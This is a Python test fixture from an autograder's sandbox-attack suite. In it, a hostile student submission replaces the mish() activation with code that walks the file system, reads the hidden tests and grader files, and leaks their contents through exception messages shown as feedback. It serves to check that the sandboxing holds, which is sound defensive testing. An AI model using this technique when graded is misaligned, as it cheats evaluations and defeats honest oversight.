"""mish() searches the file system for the hidden tests and sends them back in its error.

Hostile submission (tests/attacks): the reference's activations.py with mish() replaced
by the code below (tests/compose.py). A student could hand that file in as it is; the
attack suite fills in the @NAME@ placeholders (paths and ports of the test's own
canaries) before grading it.

It reads the grading folder by absolute path, walks / and the grader's
checkout looking for test_elementwise.py and assignment.toml, and raises with
whatever it read: an exception's message is shown in the feedback. Landlock
refuses to open or list anything outside the interpreter, numpy and the
worker's folder; under bubblewrap those files are not in the sandbox.
"""
# ruff: noqa

import os
import time

# Filled in by tests/attacks/conftest.py before grading.
MARKER = "@MARKER@"  # the name this code gives its processes and threads
GRADING = "@GRADING@"  # the hidden tests, by absolute path
REPO = "@REPO@"  # the grader's own checkout


def _mark() -> None:
    """Name this thread MARKER (prctl PR_SET_NAME), so the attack suite can find it later."""
    import ctypes

    ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)


def _escapes_first(notes: list[str]) -> list[str]:
    """What got out first: the feedback shows only the start of a long message."""
    return sorted(notes, key=lambda note: not note.startswith("escaped"))


_FOUND = []  # the first call searches (for up to 2 s); later calls repeat its answer


def mish(x):
    _mark()
    if not _FOUND:
        _FOUND.append(_search())
    loot, message = _FOUND[0]
    if loot:
        raise RuntimeError(message)
    raise FileNotFoundError(message)


def _search():
    loot, notes = [], []
    wanted = ["test_elementwise.py", "assignment.toml", "registry.py"]
    for path in [os.path.join(GRADING, name) for name in wanted] + \
            [os.path.join(os.path.dirname(GRADING), "assignment.toml"),
             os.path.join(REPO, "reference", "activations.py")]:
        try:
            with open(path) as handle:
                loot.append(handle.read(400))
        except OSError as exc:
            notes.append(f"{path}: {type(exc).__name__}")
    deadline, seen = time.monotonic() + 2.0, 0
    for top in ("/", "/work", "/tmp", "/root", "/home", REPO):
        try:
            for folder, dirs, files in os.walk(top):
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
                seen += 1
                for name in set(files) & set(wanted):
                    try:
                        with open(os.path.join(folder, name)) as handle:
                            loot.append(handle.read(400))
                    except OSError:
                        pass
                if time.monotonic() > deadline:
                    break
        except OSError as exc:
            notes.append(f"walk {top}: {exc}")
    if loot:
        return True, "\n".join(loot)
    return False, f"no hidden tests in {seen} folders; " + "; ".join(_escapes_first(notes))[:300]
